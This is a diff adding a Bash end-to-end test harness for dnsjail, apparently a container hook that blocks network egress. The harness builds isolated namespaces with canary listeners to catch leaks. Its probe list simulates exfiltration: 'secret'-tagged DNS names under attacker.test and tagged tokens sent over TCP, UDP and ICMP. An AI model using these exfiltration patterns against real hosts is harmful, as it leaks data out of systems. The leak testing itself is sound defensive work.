@@ -1,0 +1,591 @@
+# world.sh: the end-to-end test world, sourced by every tests/e2e script and by scripts/demo.sh.
+#
+# It builds, in network namespaces made for this run only and never linked to the machine's
+# real network:
+#   - an "internet" namespace where every address is local (AnyIP) with a canary resolver
+#     (dnsmasq, answers everything 203.0.113.7, logs every query) and catch-all TCP/UDP/ICMP
+#     listeners (canary.py): whatever reaches them is a leak, and canary_saw finds it;
+#   - a "host" namespace the runtimes, the hook and its daemons run in;
+#   - one namespace per container (or shared), on a bridge to the internet: 192.0.2.N/24 and
+#     2001:db8::N/64, gateway 192.0.2.1 / 2001:db8::1; resolv.conf says nameserver 192.0.2.1;
+#   - bundles (rootfs + config.json from `runc spec`) with the host's /usr bound read-only, so
+#     dig, curl and python3 work inside;
+#   - runners for runc, crun and podman with one calling convention (see run_container).
+# Everything made is registered for cleanup, which runs once on exit, whatever happens.
+# Also: TAP helpers (tap_*), and the shared battery (world_battery) the runtime tests run.
+#
+# Conventions: functions return 0/1; names of this run start with $W_ID (djt-PID).
+
+W_E2E_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
+: "${top_srcdir:=$(cd "$W_E2E_DIR/../.." && pwd)}"
+: "${top_builddir:=$top_srcdir}"
+W_ID=djt-$$
+W_TMP=
+W_CLEANUP=()
+W_NS_COUNT=0
+W_CONTAINERS=()   # "runtime id" pairs to delete -f on exit
+W_PIDS=()         # background daemons of the world
+W_STUB_EXE=       # the stub binary this run's hook execs; identifies our stubs in /proc
+W_INET=
+W_HOSTNS=
+W_HOSTNS_PATH=
+
+# ---- TAP ----------------------------------------------------------------------------------
+TAP_N=0
+TAP_FAILED=0
+TAP_PLANNED=
+
+tap_plan() { TAP_PLANNED=$1; echo "1..$1"; }
+tap_diag() { local line; while IFS= read -r line; do echo "# $line"; done <<<"$*"; }
+tap_result() { # RC DESCRIPTION
+    TAP_N=$((TAP_N + 1))
+    if [ "$1" -eq 0 ]; then
+        echo "ok $TAP_N - $2"
+    else
+        echo "not ok $TAP_N - $2"
+        TAP_FAILED=$((TAP_FAILED + 1))
+    fi
+    return "$1"
+}
+tap_check() { # DESCRIPTION CMD ARGS...: ok when CMD succeeds
+    local desc=$1
+    shift
+    "$@"
+    tap_result $? "$desc"
+}
+tap_skip() { TAP_N=$((TAP_N + 1)); echo "ok $TAP_N - $1 # SKIP ${2:-}"; }
+tap_skip_all() { echo "1..0 # SKIP $*"; exit 0; }
+tap_bail() { echo "Bail out! $*"; exit 99; }
+tap_done() {
+    [ -n "$TAP_PLANNED" ] || echo "1..$TAP_N"
+    [ "$TAP_FAILED" -eq 0 ]
+    exit $?
+}
+# Prints a file (or the tail of it) as TAP diagnostics.
+tap_diag_file() { # FILE [LINES]
+    [ -s "$1" ] || return 0
+    echo "# --- $1"
+    tail -n "${2:-20}" "$1" | sed 's/^/#   /'
+}
+
+# ---- prerequisites ------------------------------------------------------------------------
+# Skips the whole script unless we are root and have every tool named.
+world_require() { # TOOL...
+    [ "$(id -u)" -eq 0 ] || tap_skip_all "needs root"
+    local tool
+    for tool in ip nsenter unshare python3 "$@"; do
+        command -v "$tool" >/dev/null 2>&1 || tap_skip_all "missing tool: $tool"
+    done
+    ip netns list >/dev/null 2>&1 || tap_skip_all "no network namespace support"
+}
+
+# Skips unless the build tree has the hook and the stub.
+world_require_build() {
+    [ -x "$top_builddir/hook/dnsjail-hook" ] || tap_skip_all "not built: $top_builddir/hook/dnsjail-hook"
+    [ -x "$top_builddir/dnsstub/dnsjail-dnsstub" ] ||
+        tap_skip_all "not built: $top_builddir/dnsstub/dnsjail-dnsstub"
+}
+
+# ---- lifecycle of the world ---------------------------------------------------------------
+world_init() {
+    W_TMP=$(mktemp -d "/tmp/$W_ID.XXXXXX") || tap_bail "mktemp failed"
+    # The stub runs as nobody and is exec'd from under here: every level must be traversable.
+    chmod 755 "$W_TMP"
+    mkdir -p "$W_TMP/log" "$W_TMP/state" "$W_TMP/bundles" "$W_TMP/out" "$W_TMP/runc" \
+        "$W_TMP/crun" "$W_TMP/libexec" "$W_TMP/empty-hooks.d"
+    chmod 755 "$W_TMP/libexec"
+    trap world_cleanup EXIT
+    trap 'exit 130' INT
+    trap 'exit 143' TERM
+}
+
+world_on_cleanup() { W_CLEANUP+=("$*"); }
+
+world_cleanup() {
+    local i entry pid
+    trap - EXIT
+    # Containers first: their poststop hooks still need the world.
+    for entry in "${W_CONTAINERS[@]}"; do
+        runtime_delete_force ${entry} >/dev/null 2>&1
+    done
+    W_CONTAINERS=()
+    for pid in $(world_stubs); do
+        echo "# cleanup: killing leftover dnsjail-dnsstub pid $pid" >&2
+        kill -9 "$pid" 2>/dev/null
+    done
+    for ((i = ${#W_CLEANUP[@]} - 1; i >= 0; i--)); do
+        eval "${W_CLEANUP[$i]}" >/dev/null 2>&1
+    done
+    W_CLEANUP=()
+    for pid in "${W_PIDS[@]}"; do
+        kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null
+    done
+    W_PIDS=()
+    if [ -n "$W_TMP" ] && [ -d "$W_TMP" ]; then
+        # podman may leave mounts under its storage; never rm across a mount.
+        grep -o " $W_TMP[^ ]*" /proc/self/mounts | sort -r | while read -r m; do umount -l "$m"; done
+        if [ -n "${W_KEEP:-}" ]; then
+            echo "# W_KEEP set: left $W_TMP" >&2
+        else
+            rm -rf "$W_TMP"
+        fi
+    fi
+    W_TMP=
+}
+
+# Waits up to SECONDS for CMD to succeed (polls every 0.1 s).
+wait_until() { # SECONDS CMD ARGS...
+    local deadline=$((SECONDS + $1))
+    shift
+    while ! "$@"; do
+        [ "$SECONDS" -lt "$deadline" ] || return 1
+        sleep 0.1
+    done
+}
+
+world_random() { od -An -N6 -tx1 /dev/urandom | tr -d ' \n'; }
+
+# ---- network ------------------------------------------------------------------------------
+W_TCP_PORTS=22,80,443,8080,9999
+W_UDP_PORTS=123,9999
+
+# The fake internet: namespace, bridge 192.0.2.1/24 2001:db8::1/64, AnyIP, canaries.
+world_internet() {
+    W_INET=$W_ID-inet
+    ip netns add "$W_INET" || return 1
+    world_on_cleanup ip netns del "$W_INET"
+    local inet=(ip -n "$W_INET")
+    "${inet[@]}" link set lo up &&
+        "${inet[@]}" link add djbr type bridge forward_delay 0 &&
+        "${inet[@]}" addr add 192.0.2.1/24 dev djbr &&
+        "${inet[@]}" addr add 2001:db8::1/64 dev djbr nodad &&
+        "${inet[@]}" link set djbr up &&
+        "${inet[@]}" route replace local 0.0.0.0/0 dev lo table local &&
+        "${inet[@]}" -6 route replace local ::/0 dev lo table local &&
+        "${inet[@]}" route replace 192.0.2.0/24 dev djbr table local &&
+        "${inet[@]}" -6 route replace 2001:db8::/64 dev djbr table local || return 1
+
+    W_CANARY_DNS_LOG=$W_TMP/canary-dns.log
+    W_CANARY_NET_LOG=$W_TMP/canary-net.log
+    : >"$W_CANARY_DNS_LOG"
+    : >"$W_CANARY_NET_LOG"
+    nsenter --net="/run/netns/$W_INET" dnsmasq -k --conf-file=/dev/null --user=root \
+        --pid-file="$W_TMP/dnsmasq.pid" --no-resolv --no-hosts --port=53 \
+        --address=/#/203.0.113.7 --log-queries --log-facility="$W_CANARY_DNS_LOG" \
+        >"$W_TMP/dnsmasq.out" 2>&1 &
+    W_PIDS+=($!)
+    nsenter --net="/run/netns/$W_INET" python3 "$W_E2E_DIR/canary.py" "$W_CANARY_NET_LOG" \
+        "$W_TCP_PORTS" "$W_UDP_PORTS" >"$W_TMP/canary.out" 2>&1 &
+    W_PIDS+=($!)
+    wait_until 10 grep -qs '^ready' "$W_TMP/canary.out" || {
+        tap_diag_file "$W_TMP/canary.out"
+        return 1
+    }
+    wait_until 10 nsenter --net="/run/netns/$W_INET" \
+        dig +time=1 +tries=1 +short @127.0.0.1 canary-selftest.invalid >/dev/null || {
+        tap_diag_file "$W_TMP/dnsmasq.out"
+        return 1
+    }
+}
+
+# Attaches namespace NAME to the internet's bridge with host number N.
+world_attach() { # NSNAME N
+    local ns=$1 n=$2 port=djp$2
+    ip link add "$port" netns "$W_INET" type veth peer name eth0 netns "$ns" || return 1
+    ip -n "$W_INET" link set "$port" master djbr up &&
+        ip -n "$ns" link set lo up &&
+        ip -n "$ns" link set eth0 up &&
+        ip -n "$ns" addr add "192.0.2.$n/24" dev eth0 &&
+        ip -n "$ns" addr add "2001:db8::$(printf %x "$n")/64" dev eth0 nodad &&
+        ip -n "$ns" route add default via 192.0.2.1 &&
+        ip -n "$ns" -6 route add default via 2001:db8::1 || return 1
+    # Lets an unprivileged-in-the-container ping socket exist, for the ICMP probe.
+    nsenter --net="/run/netns/$ns" sysctl -qw net.ipv4.ping_group_range="0 2147483647"
+}
+
+# A namespace for the runtimes, the hook and the daemons ("the host"), on the same bridge.
+world_hostns() {
+    W_HOSTNS=$W_ID-host
+    W_HOSTNS_PATH=/run/netns/$W_HOSTNS
+    ip netns add "$W_HOSTNS" || return 1
+    world_on_cleanup ip netns del "$W_HOSTNS"
+    world_attach "$W_HOSTNS" 254
+}
+
+# A new persistent container namespace; sets W_NS to its path. Host numbers 2, 3, ...
+# (Not in a $(...) subshell: the cleanup registration and the counter must stick.)
+world_ctns() { # LABEL
+    W_NS_COUNT=$((W_NS_COUNT + 1))
+    local name=$W_ID-$1
+    W_NS=
+    ip netns add "$name" || return 1
+    world_on_cleanup ip netns del "$name"
+    world_attach "$name" $((W_NS_COUNT + 1)) || return 1
+    W_NS=/run/netns/$name
+}
+
+# ---- the canary ---------------------------------------------------------------------------
+# Did anything that reached the fake internet carry TOKEN? (DNS query names or socket data)
+canary_saw() { grep -qF -- "$1" "$W_CANARY_DNS_LOG" "$W_CANARY_NET_LOG"; }
+canary_saw_dns() { grep -qF -- "$1" "$W_CANARY_DNS_LOG"; }
+canary_saw_net() { grep -qF -- "$1" "$W_CANARY_NET_LOG"; }
+
+# ---- dnsjail configuration ----------------------------------------------------------------
+# Writes the admin config FILE for the build tree's binaries (default $W_TMP/dnsjail.conf, and
+# sets W_CONF to it); LINES ("key = value") add to or replace the test defaults.
+world_dnsjail_conf() { # [--file FILE] [LINE...]
+    local file=$W_TMP/dnsjail.conf
+    if [ "${1:-}" = --file ]; then
+        file=$2
+        shift 2
+    fi
+    W_HOOK=${W_HOOK:-$top_builddir/hook/dnsjail-hook}
+    W_STATE=$W_TMP/state
+    W_LOG=$W_TMP/log/dnsjail.log
+    W_CONF=$file
+    # A copy the unprivileged stub can reach whatever the build directory's permissions are.
+    if [ -z "$W_STUB_EXE" ]; then
+        install -m 755 "$top_builddir/dnsstub/dnsjail-dnsstub" "$W_TMP/libexec/dnsjail-dnsstub" ||
+            return 1
+        W_STUB_EXE=$W_TMP/libexec/dnsjail-dnsstub
+    fi
+    local defaults=(
+        "state-dir = $W_STATE"
+        "log-file = $W_LOG"
+        "libexec-dir = $(dirname "$W_STUB_EXE")"
+        "user = nobody"
+        "allow-cap-net-raw = false"
+        "allow-cap-net-admin = false"
+        "sinkhole-ipv4 = 6.6.6.6"
+        "dns-port = 15353"
+    )
+    local line extra key
+    {
+        echo "# written by tests/e2e/world.sh"
+        for line in "${defaults[@]}"; do
+            key=${line%% *}
+            for extra in "$@"; do
+                [ "${extra%% *}" = "$key" ] && continue 2
+            done
+            echo "$line"
+        done
+        for extra in "$@"; do echo "$extra"; done
+    } >"$file"
+}
+
+# ---- bundles ------------------------------------------------------------------------------
+world_rootfs() { # DIR
+    local r=$1
+    mkdir -p "$r"/{usr,etc,tmp,proc,dev,sys,run,root,var/tmp} || return 1
+    ln -s usr/bin "$r/bin"
+    ln -s usr/lib "$r/lib"
+    ln -s usr/lib64 "$r/lib64"
+    ln -s usr/sbin "$r/sbin"
+    echo "nameserver 192.0.2.1" >"$r/etc/resolv.conf"
+    printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n' >"$r/etc/passwd"
+    printf 'root:x:0:\nnogroup:x:65534:\n' >"$r/etc/group"
+    printf '127.0.0.1 localhost\n::1 localhost\n' >"$r/etc/hosts"
+    printf 'hosts: files dns\n' >"$r/etc/nsswitch.conf"
+    [ -d /etc/ssl ] && cp -a /etc/ssl "$r/etc/ssl"
+    chmod 1777 "$r/tmp"
+}
+
+# Makes bundle $W_TMP/bundles/ID; the options are bundle.py's (see there), then -- ARGS.
+# Prints the bundle's path.
+world_bundle() { # ID [bundle.py options] [-- ARGS...]
+    local id=$1
+    shift
+    local b=$W_TMP/bundles/$id
+    mkdir -p "$b" && world_rootfs "$b/rootfs" >/dev/null || return 1
+    (cd "$b" && runc spec) || return 1
+    python3 "$W_E2E_DIR/bundle.py" "$b/config.json" \
+        --bind "$W_E2E_DIR/probe.py:/probe.py" "$@" || return 1
+    echo "$b"
+}
+
+# bundle.py options for a jailed container using this run's hook and config.
+world_hook_opts() { echo --hook "$W_HOOK" --hook-config "$W_CONF"; }
+
+# ---- runtimes -----------------------------------------------------------------------------
+# Every runner leaves RUN_RC, and the files $RUN_OUT and $RUN_ERR.
+_run_capture() { # ID CMD...
+    local id=$1
+    shift
+    RUN_OUT=$W_TMP/out/$id.out
+    RUN_ERR=$W_TMP/out/$id.err
+    "$@" </dev/null >"$RUN_OUT" 2>"$RUN_ERR"
+    RUN_RC=$?
+    return 0
+}
+
+# Each runtime command is bounded by a timeout: a hung hook must fail the test, not hang it.
+runc_cmd() { timeout -k 5 90 nsenter --net="$W_HOSTNS_PATH" runc --root "$W_TMP/runc" "$@"; }
+
+# crun needs a pure cgroup2 view: a private mount namespace with cgroup2 on /sys/fs/cgroup.
+crun_cmd() {
+    timeout -k 5 90 nsenter --net="$W_HOSTNS_PATH" unshare -m sh -c \
+        'umount -R /sys/fs/cgroup 2>/dev/null; mount -t cgroup2 none /sys/fs/cgroup && exec crun --root "$0" --cgroup-manager=disabled "$@"' \
+        "$W_TMP/crun" "$@"
+}
+
+run_runc() { # ID BUNDLE: runc run, in the foreground
+    W_CONTAINERS+=("runc $1")
+    _run_capture "$1" runc_cmd run --bundle "$2" "$1"
+}
+
+run_crun() { # ID BUNDLE
+    W_CONTAINERS+=("crun $1")
+    _run_capture "$1" crun_cmd run --bundle "$2" "$1"
+}
+
+runtime_delete_force() { # RUNTIME ID
+    case $1 in
+        runc) runc_cmd delete -f "$2" ;;
+        crun) crun_cmd delete -f "$2" ;;
+        podman) podman_cmd rm -f "$2" ;;
+    esac
+}
+
+# podman with storage, state and events under this run's directory; the runtime is runc.
+podman_cmd() {
+    timeout -k 5 120 nsenter --net="$W_HOSTNS_PATH" podman --root "$W_TMP/podman/root" \
+        --runroot "$W_TMP/podman/run" --tmpdir "$W_TMP/podman/tmp" --storage-driver vfs \
+        --cgroup-manager cgroupfs --events-backend file --runtime runc "$@"
+}
+
+# podman run of a rootfs in namespace NSPATH, never on podman's own networks.
+run_podman() { # ID NSPATH HOOKSDIR [podman run options] -- CMD...
+    local id=$1 ns=$2 hooksdir=$3
+    shift 3
+    local opts=()
+    while [ $# -gt 0 ] && [ "$1" != "--" ]; do
+        opts+=("$1")
+        shift
+    done
+    [ "${1:-}" = "--" ] && shift
+    local rootfs=$W_TMP/bundles/$id-podman-rootfs
+    world_rootfs "$rootfs" || return 1
+    mkdir -p "$W_TMP/podman/tmp"
+    W_CONTAINERS+=("podman $id")
+    _run_capture "$id" podman_cmd --hooks-dir "$hooksdir" run --rm --name "$id" \
+        --network "ns:$ns" --dns 192.0.2.1 \
+        --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
+        -v /usr:/usr:ro -v "$W_E2E_DIR/probe.py:/probe.py:ro" \
+        "${opts[@]}" --rootfs "$rootfs" "$@"
+}
+
+# One calling convention for the battery:
+#   run_container RUNTIME ID NSPATH JAIL ANNOTATIONS -- CMD...
+# JAIL: yes (our hook) or no (no hook at all). ANNOTATIONS: space-separated K=V.
+run_container() {
+    local runtime=$1 id=$2 ns=$3 jail=$4 annotations=$5
+    shift 5
+    [ "${1:-}" = "--" ] && shift
+    local a opts=()
+    if [ "$runtime" = podman ]; then
+        for a in $annotations; do opts+=(--annotation "$a"); done
+        local hooksdir=$W_TMP/empty-hooks.d
+        [ "$jail" = yes ] && hooksdir=$W_PODMAN_HOOKSDIR
+        run_podman "$id" "$ns" "$hooksdir" "${opts[@]}" -- "$@"
+        return
+    fi
+    for a in $annotations; do opts+=(--annotation "$a"); done
+    # shellcheck disable=SC2046
+    [ "$jail" = yes ] && opts+=($(world_hook_opts))
+    local b
+    b=$(world_bundle "$id" --netns "$ns" "${opts[@]}" -- "$@") || return 1
+    "run_$runtime" "$id" "$b"
+}
+
+# ---- what dnsjail left behind -------------------------------------------------------------
+# Pids of this run's dnsjail-dnsstub processes (found by their executable).
+world_stubs() {
+    [ -n "$W_STUB_EXE" ] || return 0
+    local p
+    for p in /proc/[0-9]*; do
+        [ "$(readlink "$p/exe" 2>/dev/null)" = "$W_STUB_EXE" ] && echo "${p#/proc/}"
+    done
+}
+stub_for() { pgrep -f "dnsjail-dnsstub.*--container-id $1( |\$)"; }
+no_stub_for() { ! stub_for "$1" >/dev/null; }
+no_stubs_at_all() { [ -z "$(world_stubs)" ]; }
+# No per-container record and no namespace state left (for a namespace no one else uses).
+state_clean_for() { [ ! -e "$W_STATE/containers/$1" ]; }
+state_empty() {
+    [ -z "$(find "$W_STATE/containers" "$W_STATE/netns" -mindepth 1 2>/dev/null)" ]
+}
+nft_table_in() { nsenter --net="$1" nft list table inet dnsjail >/dev/null 2>&1; }
+# The hook must not leave namespace references (bind mounts) behind under its state dir.
+no_mounts_under_state() { ! grep -q " $W_STATE" /proc/self/mountinfo; }
+no_nft_table_in() { ! nft_table_in "$1"; }
+# The hook's log has a dns_query line for QNAME from container ID.
+log_has_query() { # ID QNAME
+    python3 - "$W_LOG" "$1" "$2" <<'EOF'
+import json, sys
+path, cid, qname = sys.argv[1:4]
+try:
+    lines = open(path).read().splitlines()
+except OSError:
+    sys.exit(1)
+for line in lines:
+    try:
+        ev = json.loads(line)
+    except ValueError:
+        continue
+    if (ev.get("event") == "dns_query" and ev.get("container") == cid
+            and str(ev.get("qname", "")).rstrip(".").lower() == qname.lower()):
+        sys.exit(0)
+sys.exit(1)
+EOF
+}
+# After a container went: no stub for it, no state for it, no table in NSPATH (if given).
+assert_gone() { # DESCRIPTION ID [NSPATH]
+    tap_check "$1: no dnsjail-dnsstub left" wait_until 5 no_stub_for "$2"
+    tap_check "$1: no state left for the container" state_clean_for "$2"
+    tap_check "$1: no namespace reference mounted under the state dir" no_mounts_under_state
+    if [ -n "${3:-}" ]; then
+        tap_check "$1: no namespace state left" state_empty
+        tap_check "$1: table inet dnsjail removed from the namespace" no_nft_table_in "$3"
+    fi
+}
+
+# ---- probe results ------------------------------------------------------------------------
+# The field KEY of probe LABEL's result line in FILE.
+probe_field() { # FILE LABEL KEY
+    awk -v label="$2" -v key="$3" '$1 == label { for (i = 2; i <= NF; i++) { split($i, kv, "="); if (kv[1] == key) { sub("^[^=]*=", "", $i); print $i; exit } } }' "$1"
+}
+probe_is() { [ "$(probe_field "$1" "$2" "$3")" = "$4" ]; }
+probe_isnt() { local v; v=$(probe_field "$1" "$2" "$3"); [ -n "$v" ] && [ "$v" != "$4" ]; }
+probe_fast() { local ms; ms=$(probe_field "$1" "$2" ms); [ -n "$ms" ] && [ "$ms" -lt "${3:-1000}" ]; }
+
+# ---- the battery every runtime goes through -----------------------------------------------
+# The probes (probe.py's arguments), with a fresh random tag in every name and payload.
+world_probe_args() { # TAG
+    local t=$1
+    echo "dns|dns_resolv|secret-$t-r.attacker.test|A|-|udp"
+    echo "dns|dns_literal1|secret-$t-l1.attacker.test|A|198.51.100.53|udp"
+    echo "dns|dns_literal2|secret-$t-l2.attacker.test|A|203.0.113.9|udp"
+    echo "dns|dns_tcp|secret-$t-t.attacker.test|A|192.0.2.1|tcp"
+    echo "dns|dns_v6|secret-$t-6.attacker.test|A|2001:db8::1|udp"
+    echo "dns|dns_aaaa|secret-$t-q.attacker.test|AAAA|-|udp"
+    echo "dns|dns_txt|secret-$t-x.attacker.test|TXT|-|udp"
+    echo "tcp|tcp22|192.0.2.1|22|tok-$t-tcp22"
+    echo "tcp|tcp80|203.0.113.80|80|tok-$t-tcp80"
+    echo "tcp|tcp443|198.51.100.44|443|tok-$t-tcp443"
+    echo "tcp|tcp6_22|2001:db8::1|22|tok-$t-tcp6"
+    echo "udp|udp9999|192.0.2.1|9999|tok-$t-udp"
+    echo "udp|udp6_9999|2001:db8::1|9999|tok-$t-udp6"
+    echo "icmp|icmp4|192.0.2.1|tok-$t-icmp4"
+    echo "icmp|icmp6|2001:db8::1|tok-$t-icmp6"
+}
+# What probe LABEL carries to the outside: the query name or the payload token.
+_token() { # TAG LABEL
+    world_probe_args "$1" | awk -F'|' -v l="$2" '$2 == l { print ($1 == "dns") ? $3 : $NF }'
+}
+
+# Runs the probe container; leaves RUN_* set. JAIL yes|no, ANNOTATIONS as run_container.
+world_run_probe() { # RUNTIME ID NSPATH JAIL ANNOTATIONS TAG
+    local args=()
+    mapfile -t args < <(world_probe_args "$6")
+    run_container "$1" "$2" "$3" "$4" "$5" -- /usr/bin/python3 /probe.py "${args[@]}"
+}
+
+_show_run() {
+    tap_diag "exit status $RUN_RC"
+    tap_diag_file "$RUN_OUT" 40
+    tap_diag_file "$RUN_ERR" 20
+}
+
+# The positive control: no hook at all; every probe must reach the canary, or the test world
+# could not see a leak and the jailed run would prove nothing.
+world_battery_control() { # RUNTIME
+    local rt=$1 tag ns id
+    tag=$(world_random)
+    world_ctns "ctl$rt" || tap_bail "cannot make a namespace"
+    ns=$W_NS
+    id=$W_ID-$rt-control
+    world_run_probe "$rt" "$id" "$ns" no "" "$tag"
+    tap_check "$rt control: container without the hook ran" grep -q '^probe-done' "$RUN_OUT" || _show_run
+    local label
+    for label in dns_resolv dns_literal1 dns_literal2 dns_tcp dns_v6; do
+        tap_check "$rt control: $label answered by the canary resolver (203.0.113.7)" \
+            probe_is "$RUN_OUT" "$label" answers "A:203.0.113.7"
+        tap_check "$rt control: canary resolver logged $label's name" \
+            canary_saw_dns "$(_token "$tag" "$label")"
+    done
+    for label in tcp22 tcp80 tcp443 tcp6_22; do
+        tap_check "$rt control: $label connected" probe_is "$RUN_OUT" "$label" status connected
+        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
+    done
+    for label in udp9999 udp6_9999; do
+        tap_check "$rt control: $label got a reply" probe_is "$RUN_OUT" "$label" status reply
+        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
+    done
+    for label in icmp4 icmp6; do
+        tap_check "$rt control: $label got a reply" probe_is "$RUN_OUT" "$label" status reply
+        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
+    done
+}
+
+# The jailed run: every probe answered by the stub or refused at once, nothing at the canary.
+world_battery_jailed() { # RUNTIME
+    local rt=$1 tag ns id label
+    tag=$(world_random)
+    world_ctns "jail$rt" || tap_bail "cannot make a namespace"
+    ns=$W_NS
+    id=$W_ID-$rt-jailed
+    world_run_probe "$rt" "$id" "$ns" yes "io.dnsjail.enable=true" "$tag"
+    tap_check "$rt jailed: container ran under the hook (exit 0)" test "$RUN_RC" -eq 0 || _show_run
+    tap_check "$rt jailed: probes ran" grep -q '^probe-done' "$RUN_OUT" || _show_run
+    for label in dns_resolv dns_literal1 dns_literal2 dns_tcp dns_v6; do
+        tap_check "$rt jailed: $label answered 6.6.6.6 by the stub" \
+            probe_is "$RUN_OUT" "$label" answers "A:6.6.6.6" ||
+            tap_diag "$(grep "^$label " "$RUN_OUT")"
+    done
+    tap_check "$rt jailed: AAAA gets NOERROR without an answer" \
+        eval 'probe_is "$RUN_OUT" dns_aaaa rcode NOERROR && probe_is "$RUN_OUT" dns_aaaa answers -' ||
+        tap_diag "$(grep "^dns_aaaa " "$RUN_OUT")"
+    tap_check "$rt jailed: TXT gets NODATA" \
+        eval 'probe_is "$RUN_OUT" dns_txt rcode NOERROR && probe_is "$RUN_OUT" dns_txt answers -' ||
+        tap_diag "$(grep "^dns_txt " "$RUN_OUT")"
+    tap_check "$rt jailed: the canary resolver saw none of the names" \
+        eval '! canary_saw_dns "$tag"'
+    tap_check "$rt jailed: the log has a dns_query line for the secret with the container id" \
+        log_has_query "$id" "secret-$tag-r.attacker.test" || tap_diag_file "$W_LOG" 10
+    for label in tcp22 tcp80 tcp443 tcp6_22; do
+        tap_check "$rt jailed: $label refused within 1 s" \
+            eval 'probe_isnt "$RUN_OUT" $label status connected && probe_fast "$RUN_OUT" $label 1000' ||
+            tap_diag "$(grep "^$label " "$RUN_OUT")"
+    done
+    for label in udp9999 udp6_9999 icmp4 icmp6; do
+        tap_check "$rt jailed: $label fails" probe_isnt "$RUN_OUT" "$label" status reply ||
+            tap_diag "$(grep "^$label " "$RUN_OUT")"
+    done
+    tap_check "$rt jailed: the canary listeners saw nothing of this run" \
+        eval '! canary_saw_net "$tag"' || tap_diag "$(grep -F "$tag" "$W_CANARY_NET_LOG")"
+    assert_gone "$rt jailed, after exit" "$id" "$ns"
+}
+
+# io.dnsjail.enable=false: the hook runs but leaves the container alone.
+world_battery_disabled() { # RUNTIME
+    local rt=$1 tag ns id
+    tag=$(world_random)
+    world_ctns "off$rt" || tap_bail "cannot make a namespace"
+    ns=$W_NS
+    id=$W_ID-$rt-disabled
+    run_container "$rt" "$id" "$ns" yes "io.dnsjail.enable=false" -- \
+        /usr/bin/python3 /probe.py "dns|dns_resolv|secret-$tag-off.attacker.test|A|-|udp"
+    tap_check "$rt enable=false: container ran" test "$RUN_RC" -eq 0 || _show_run
+    tap_check "$rt enable=false: answer came from the canary (not jailed)" \
+        probe_is "$RUN_OUT" dns_resolv answers "A:203.0.113.7" || _show_run
+    tap_check "$rt enable=false: the canary saw the name" canary_saw_dns "secret-$tag-off"
+    tap_check "$rt enable=false: no table was installed" no_nft_table_in "$ns"
+    assert_gone "$rt enable=false" "$id"
+}
+
+# Sets up everything the battery needs. Call once, after world_require*.
+world_up() {
+    world_init
+    world_internet || tap_bail "cannot build the fake internet"
+    world_hostns || tap_bail "cannot build the host namespace"
+}
